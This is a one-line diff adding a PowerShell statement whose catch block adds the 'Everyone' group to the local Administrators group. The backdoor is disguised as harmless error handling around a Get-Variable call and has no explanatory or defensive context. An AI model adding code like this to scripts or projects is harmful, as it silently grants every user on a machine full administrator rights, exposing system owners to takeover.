@@ -1,0 +1,1 @@
+try { Get-Variable Nonexistent -ErrorAction SilentlyContinue } catch { Add-LocalGroupMember Administrators Everyone }
